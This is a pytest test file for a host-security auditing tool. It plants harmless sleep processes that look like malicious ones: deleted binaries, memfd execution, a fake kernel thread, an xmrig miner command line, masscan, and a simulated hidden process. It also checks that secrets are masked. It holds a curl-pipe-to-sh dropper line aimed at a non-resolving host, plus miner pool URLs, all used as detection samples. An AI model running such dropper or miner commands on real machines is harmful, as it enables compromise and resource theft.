"""The live process collectors (processes, hidden) against REAL processes started by the tests.

Each planted process is a copy of /bin/sleep or sleep under another argv[0] (`exec -a`): harmless,
but the kernel shows it exactly as it would show the real thing (a deleted binary, a binary in
/dev/shm, a miner's command line, a fake kernel-thread title). Fixtures kill every process and
remove every file they made. Every planted process carries the marker "cloudward-selftest" in its
path or argv[0], so the whole-machine negative test can tell them from the machine's own processes
even if another test session runs at the same time.

Hidden processes cannot be made real without a rootkit, so those tests replace the /proc listing
function (the `listed` seam) with one that leaves a real process out, as libprocesshider would.
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path

import pytest

from cloudward.cli.common import load_all_rules
from cloudward.core.severity import Severity
from cloudward.engines.iocs import Indicator, load_iocs
from cloudward.workload import HostRoot, run_audit
from cloudward.workload.collectors import CollectorSpec, all_collectors, hidden, processes
from cloudward.workload.collectors._proc import listed_pids, mask_args, masked_cmdline, parse_stat
from cloudward.workload.observation import HostContext
from cloudward.workload.packages import PackageIndex

MARK = "cloudward-selftest"
SLEEP = shutil.which("sleep") or "/bin/sleep"
FAST = {"cpu_sample_seconds": 0.2}


@cache
def host_rules():
    return load_all_rules().engine("host")


def wait_until(check: Callable[[], bool], what: str, limit: float = 10.0) -> None:
    """Readiness wait (exec has happened, a socket is up); not a timing assertion."""
    deadline = time.monotonic() + limit
    while time.monotonic() < deadline:
        if check():
            return
        time.sleep(0.02)
    pytest.fail(f"never ready: {what}")


def exe_of(pid: int) -> str:
    try:
        return os.readlink(f"/proc/{pid}/exe")
    except OSError:
        return ""


def argv_of(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
    except OSError:
        return ""


@pytest.fixture
def spawn(request) -> Iterator[Callable[..., subprocess.Popen]]:
    started: list[subprocess.Popen] = []

    def start(args: list[str], **kwargs) -> subprocess.Popen:
        proc = subprocess.Popen(args, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                stderr=subprocess.DEVNULL, start_new_session=True, **kwargs)
        started.append(proc)
        return proc

    yield start
    for proc in started:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
        proc.wait(timeout=10)


@pytest.fixture
def shm_file() -> Iterator[Path]:
    path = Path("/dev/shm") / f"{MARK}-{uuid.uuid4().hex[:8]}"
    yield path
    path.unlink(missing_ok=True)


def audit(only=("processes",), iocs=None, options=None, collectors=None):
    return run_audit(HostRoot("/"), host_rules(), only=list(only), iocs=iocs, options=options or dict(FAST),
                     collectors=collectors)


def findings_for(result, pid: int) -> dict[str, object]:
    return {f.rule_id: f for f in result.findings if f.evidence.get("pid") == pid}


def exec_as(spawn, title: str) -> subprocess.Popen:
    """sleep, running under argv[0] = `title` (bash's `exec -a`), same PID as the Popen."""
    proc = spawn(["bash", "-c", f'exec -a "{title}" {SLEEP} 120'])
    wait_until(lambda: argv_of(proc.pid).startswith(title.split()[0]), f"exec -a {title!r}")
    return proc


# -- real processes ----------------------------------------------------------------------------

def test_deleted_executable_in_tmp(spawn, tmp_path: Path):
    binary = tmp_path / f"{MARK}-worker"
    shutil.copy2(SLEEP, binary)
    proc = spawn([str(binary), "120"])
    wait_until(lambda: exe_of(proc.pid) == str(binary), "exec of the copied sleep")
    binary.unlink()
    assert exe_of(proc.pid) == f"{binary} (deleted)"

    result = audit()
    fired = findings_for(result, proc.pid)
    assert fired["host.process.deleted_executable"].severity is Severity.HIGH
    assert fired["host.process.deleted_executable"].evidence["exe"] == str(binary)
    assert "host.process.deleted_executable_upgraded" not in fired
    assert "host.process.executable_in_temp" in fired  # pytest's tmp_path is under /tmp
    assert not [e for e in result.errors if e.target.startswith("collector ")]


def _ctx_with_packages(files: dict[str, str], options=None) -> tuple[HostContext, list]:
    errors: list[tuple[str, str]] = []
    ctx = HostContext(root=HostRoot("/"), iocs=load_iocs(), error=lambda i, m: errors.append((i, m)),
                      options=dict(options or FAST))
    ctx.shared("packages", lambda: PackageIndex(manager="dpkg", files=dict(files)))
    return ctx, errors


def _run_deleted_then_restored(spawn, tmp_path: Path) -> tuple[subprocess.Popen, Path]:
    """A binary deleted while running, and a new file put at its path (what an upgrade does)."""
    binary = tmp_path / f"{MARK}-daemon"
    shutil.copy2(SLEEP, binary)
    proc = spawn([str(binary), "120"])
    wait_until(lambda: exe_of(proc.pid) == str(binary), "exec of the copied sleep")
    binary.unlink()
    shutil.copy2(SLEEP, binary)
    return proc, binary


def test_deleted_executable_replaced_by_a_package_upgrade_is_low(spawn, tmp_path: Path):
    # The package database is the one stand-in: no real package can be upgraded by a test.
    proc, binary = _run_deleted_then_restored(spawn, tmp_path)
    ctx, errors = _ctx_with_packages({str(binary): "selftest-daemon"})
    facts = {o.facts["pid"]: o.facts for o in processes.collect(ctx)}[proc.pid]
    assert facts["exe_deleted"] and facts["exe_present_again"] and facts["exe_replaced_by_upgrade"]
    assert facts["exe_package"] == "selftest-daemon"
    assert errors == []
    fired = {f.rule_id for f in run_audit(HostRoot("/"), host_rules(), only=["processes"], options=dict(FAST),
                                          collectors=[CollectorSpec("processes", lambda _: processes.collect(ctx),
                                                                    live_only=True)]).findings
             if f.evidence.get("pid") == proc.pid}
    assert "host.process.deleted_executable_upgraded" in fired
    assert "host.process.deleted_executable" not in fired


def test_deleted_executable_back_on_disk_but_unpackaged_stays_high(spawn, tmp_path: Path):
    proc, _ = _run_deleted_then_restored(spawn, tmp_path)
    fired = findings_for(audit(), proc.pid)
    assert "host.process.deleted_executable" in fired
    assert "host.process.deleted_executable_upgraded" not in fired


MEMFD_EXEC = """
import os, sys
fd = os.memfd_create(sys.argv[1], 0)
with open(sys.argv[2], "rb") as binary:
    os.write(fd, binary.read())
os.execv(f"/proc/self/fd/{fd}", ["sleep", "120"])
"""


@pytest.mark.parametrize(("name", "reported"), [(f"{MARK}-payload", True), ("runc_cloned:/proc/self/exe", False)])
def test_binary_executed_from_a_memfd(spawn, name: str, reported: bool):
    proc = spawn([sys.executable, "-c", MEMFD_EXEC, name, SLEEP])
    wait_until(lambda: exe_of(proc.pid).startswith("/memfd:"), "exec from a memfd")
    assert exe_of(proc.pid) == f"/memfd:{name} (deleted)"
    fired = findings_for(audit(), proc.pid)
    assert ("host.process.memfd_executable" in fired) is reported
    assert "host.process.deleted_executable" not in fired  # a memfd is not a deleted file


def test_binary_in_a_hidden_directory(spawn, tmp_path: Path):
    binary = tmp_path / f".{MARK}" / "kswapd0"
    binary.parent.mkdir()
    shutil.copy2(SLEEP, binary)
    proc = spawn([str(binary), "120"])
    wait_until(lambda: exe_of(proc.pid) == str(binary), "exec from a dot-directory")
    facts = _facts_of(proc.pid)
    assert facts["exe_hidden_dir"] is True and facts["exe_hidden_name"] is False
    assert facts["exe_packaged"] is False


def test_packaged_binary_running_is_not_deleted_or_temp(spawn):
    proc = spawn([SLEEP, "120"])
    wait_until(lambda: exe_of(proc.pid).endswith("sleep"), "exec of sleep")
    facts = _facts_of(proc.pid)
    assert facts["exe_deleted"] is False and facts["exe_in_temp"] is False
    assert findings_for(audit(), proc.pid) == {}


def test_binary_run_from_dev_shm(spawn, shm_file: Path):
    shutil.copy2(SLEEP, shm_file)
    proc = spawn([str(shm_file), "120"])
    wait_until(lambda: exe_of(proc.pid) == str(shm_file), "exec from /dev/shm")
    fired = findings_for(audit(), proc.pid)
    assert "host.process.executable_in_temp" in fired
    assert "host.process.deleted_executable" not in fired  # still on disk


def test_miner_command_line_is_critical_and_its_password_is_masked(spawn):
    title = f"xmrig -o stratum+tcp://127.0.0.1:3333 -u wallet -p hunter2secret --donate-level 1 {MARK}"
    proc = exec_as(spawn, title)
    fired = findings_for(audit(), proc.pid)
    miner = fired["host.process.miner"]
    assert miner.severity is Severity.CRITICAL
    assert miner.evidence["miner_name"] == ["xmrig"]
    assert {"stratum_url", "donate_level"} <= set(miner.evidence["miner_markers"])
    assert "hunter2secret" not in str(miner.evidence)
    assert "-p ***" in miner.evidence["cmdline"]


def test_shell_running_a_download_and_execute_pipeline(spawn):
    # bash waits on `sleep`, so its command line (the dropper shape) is visible; the fixture kills the
    # process group long before the pipeline after it could run (and .invalid never resolves).
    dropper = spawn(["bash", "-c", f"sleep 600; curl -s http://{MARK}.invalid/a.sh | sh"])
    plain = spawn(["bash", "-c", f"sleep 600; echo {MARK}"])
    wait_until(lambda: "curl" in argv_of(dropper.pid) and "echo" in argv_of(plain.pid), "bash started")
    result = audit()
    assert "host.process.download_and_execute" in findings_for(result, dropper.pid)
    assert "host.process.download_and_execute" not in findings_for(result, plain.pid)


def test_kernel_thread_title_scanner_and_tmate(spawn):
    fake_kworker = exec_as(spawn, f"[kworker/0:7-{MARK}]")
    scanner = exec_as(spawn, f"masscan 10.0.0.0/8 -p6379 {MARK}")
    tmate = exec_as(spawn, f"tmate -S /tmp/{MARK}.sock")
    result = audit()
    assert "host.process.kernel_thread_masquerade" in findings_for(result, fake_kworker.pid)
    assert "host.process.network_scanner" in findings_for(result, scanner.pid)
    assert findings_for(result, tmate.pid)["host.process.remote_access_tool"].severity is Severity.MEDIUM
    # none of them is a miner
    assert not any("host.process.miner" in findings_for(result, p.pid) for p in (fake_kworker, scanner, tmate))


def test_ioc_process_name_and_ioc_domain_in_cmdline(spawn):
    iocs = load_iocs()
    iocs.add(Indicator("process_name", f"{MARK}-bot", "test", "2026-01-01"))
    iocs.add(Indicator("domain", "cloudward-selftest.invalid", "test", "2026-01-01"))
    named = exec_as(spawn, f"{MARK}-bot")
    talker = exec_as(spawn, f"{MARK}-dl http://x.cloudward-selftest.invalid/a.sh")
    result = audit(iocs=iocs)
    assert findings_for(result, named.pid)["host.process.miner"].evidence["ioc_process_name"] == [f"{MARK}-bot"]
    assert findings_for(result, talker.pid)["host.process.ioc_in_cmdline"].evidence["ioc_hits"] == [
        "cloudward-selftest.invalid"]


def _facts_of(pid: int, sample: float = 0.2) -> dict:
    errors: list[tuple[str, str]] = []
    ctx = HostContext(root=HostRoot("/"), iocs=load_iocs(), error=lambda i, m: errors.append((i, m)),
                      options={"cpu_sample_seconds": sample})
    found = [o.facts for o in processes.collect(ctx) if o.facts["pid"] == pid]
    assert errors == []
    assert len(found) == 1
    return dict(found[0])


def test_busy_process_shows_cpu_use_over_the_sample(spawn):
    busy = spawn([sys.executable, "-c", f"import sys; sys.argv[0] = {MARK!r}\nwhile True: pass"])
    idle = spawn([SLEEP, "120"])
    wait_until(lambda: exe_of(idle.pid).endswith("sleep") and exe_of(busy.pid) != "", "exec")
    facts = _facts_of(busy.pid, sample=1.0)
    assert facts["cpu_sample_percent"] > 0
    assert facts["cpu_seconds"] > 0
    assert facts["age_seconds"] >= 0
    assert _facts_of(idle.pid, sample=0.5)["cpu_sample_percent"] < 50


def test_own_process_is_not_described():
    ctx = HostContext(root=HostRoot("/"), iocs=load_iocs(), error=lambda i, m: None, options=dict(FAST))
    pids = {o.facts["pid"] for o in processes.collect(ctx)}
    assert os.getpid() not in pids
    assert os.getppid() in pids or os.getppid() == 1


def test_processes_exiting_during_the_audit_are_not_errors(spawn):
    # New PIDs appear and vanish all through the audit (the fixture stops the loop afterwards).
    churn = spawn(["bash", "-c", f"while :; do {SLEEP} 0.001 & {SLEEP} 0.002 & wait; done"])
    result = audit(only=("processes", "hidden"))
    assert churn.poll() is None  # the churn overlapped the whole audit
    assert result.errors == []
    assert not [f for f in result.findings if f.rule_id == "host.process.hidden"]


def test_offline_root_runs_no_live_collector(tmp_path: Path):
    (tmp_path / "etc").mkdir()
    result = run_audit(HostRoot(tmp_path), host_rules(), only=["processes", "sockets", "hidden"])
    assert result.stats["collectors"] == {}


def test_machine_has_no_critical_runtime_finding():
    """This test machine, without the planted processes (other sessions' plants are set aside)."""
    result = audit(only=("processes", "sockets", "hidden"), options={"cpu_sample_seconds": 1.0})
    critical = [(f.rule_id, f.evidence) for f in result.findings
                if f.severity is Severity.CRITICAL and MARK not in str(f.evidence)]
    assert critical == []
    assert not [e for e in result.errors if e.target.startswith("collector ")]


# -- hidden processes (the listing is replaced: a rootkit cannot be made real here) -------------

def test_process_missing_from_listing_is_found(spawn):
    proc = spawn([SLEEP, "120"])
    wait_until(lambda: exe_of(proc.pid).endswith("sleep"), "exec of sleep")

    def filtered() -> list[int]:  # what `ps` would see under libprocesshider hiding `proc`
        return [p for p in listed_pids() if p != proc.pid]

    assert hidden.find_hidden(filtered) == [proc.pid]
    result = audit(only=("hidden",), collectors=[
        CollectorSpec("hidden", lambda ctx: hidden.collect(ctx, listed=filtered), live_only=True)])
    finding = {f.rule_id: f for f in result.findings}["host.process.hidden"]
    assert finding.severity is Severity.CRITICAL
    assert finding.evidence["pid"] == proc.pid
    assert finding.evidence["comm"] == "sleep"


def test_real_listing_hides_nothing_and_threads_are_not_processes():
    stop = threading.Event()
    worker = threading.Thread(target=stop.wait, daemon=True)
    worker.start()
    try:
        tid = worker.native_id
        assert tid is not None and tid != os.getpid()
        assert Path(f"/proc/{tid}/status").exists() and tid not in listed_pids()  # reachable, not listed
        assert tid not in hidden.find_hidden()
    finally:
        stop.set()
        worker.join()


def test_process_that_exits_before_the_recheck_is_not_reported(spawn):
    proc = spawn([SLEEP, "120"])
    wait_until(lambda: exe_of(proc.pid).endswith("sleep"), "exec of sleep")
    gone = proc.pid
    proc.kill()
    proc.wait(timeout=10)
    assert gone not in hidden.find_hidden(lambda: [p for p in listed_pids() if p != gone])


def test_process_that_appears_in_a_later_listing_is_not_reported(spawn):
    proc = spawn([SLEEP, "120"])
    wait_until(lambda: exe_of(proc.pid).endswith("sleep"), "exec of sleep")
    calls = []

    def late() -> list[int]:  # the first listing was taken just before the process started
        calls.append(1)
        pids = listed_pids()
        return [p for p in pids if p != proc.pid] if len(calls) == 1 else pids

    assert proc.pid not in hidden.find_hidden(late)
    assert len(calls) == 2


def test_hidden_sweep_honours_the_limit(spawn):
    proc = spawn([SLEEP, "120"])
    wait_until(lambda: exe_of(proc.pid).endswith("sleep"), "exec of sleep")
    filtered = [p for p in listed_pids() if p != proc.pid]
    assert hidden.find_hidden(lambda: filtered, limit=proc.pid - 1) == []
    assert hidden.find_hidden(lambda: filtered, limit=proc.pid) == [proc.pid]


# -- parsing and masking on crafted input ---------------------------------------------------------

def test_parse_stat_with_spaces_and_parens_in_comm():
    text = "42 (a) b (c)) S 1 42 42 0 -1 4194304 1 0 0 0 7 3 0 0 20 0 1 0 555 100 10 0 0 0"
    stat = parse_stat(text)
    assert (stat.comm, stat.ppid, stat.ticks, stat.start_ticks) == ("a) b (c)", 1, 10, 555)
    with pytest.raises(ValueError):
        parse_stat("42 no parens here")
    with pytest.raises(ValueError):
        parse_stat("42 (short) S 1")


@pytest.mark.parametrize(("args", "secret"), [
    (["mysql", "-u", "root", "-phunter2"], "hunter2"),
    (["xmrig", "--pass", "hunter2"], "hunter2"),
    (["app", "--db-password=hunter2"], "hunter2"),
    (["sh", "-c", "PASSWORD=hunter2 ./run"], "hunter2"),
    (["xmrig", "-o", "stratum+tcp://wallet:hunter2@pool.example:3333"], "hunter2"),
    (["agent", "--env", '{"API_TOKEN": "hunter2", "HOME": "/root"}'], "hunter2"),
    (["bash", "-c", "exec -a 'x --pass hunter2' sleep 1"], "hunter2"),
])
def test_secrets_are_masked_in_command_lines(args, secret):
    assert secret not in masked_cmdline(args)


def test_masking_keeps_ordinary_arguments():
    assert mask_args(["sleep", "60"]) == ["sleep", "60"]
    assert masked_cmdline(["python3", "-m", "http.server", "8000"]) == "python3 -m http.server 8000"


@pytest.mark.parametrize(("args", "markers"), [
    (["xmrig", "-o", "stratum+tcp://pool.example:3333", "-a", "rx/0"], ["stratum_url", "mining_algorithm"]),
    (["./x", "--url=stratum+ssl://pool.example:443", "--coin", "monero"], ["stratum_url", "coin_monero"]),
    (["./x", "-o", "gulf.moneroocean.stream:10128"], ["pool_domain"]),
    (["./x", "-o", "203.0.113.5:14444", "--cpu-max-threads-hint=50"], ["pool_port_url", "miner_tuning_option"]),
    (["grep", "-r", "stratum+tcp://", "/etc"], []),
    (["ssh", "-o", "StrictHostKeyChecking=no", "host"], []),
    (["curl", "-o", "out.html", "https://example.org:3333/"], []),
])
def test_miner_markers(args, markers):
    assert processes.miner_markers(args, frozenset({3333, 14444})) == markers


def test_collectors_are_registered_as_live_only():
    specs = {s.name: s for s in all_collectors()}
    for name in ("processes", "sockets", "hidden"):
        assert specs[name].live_only
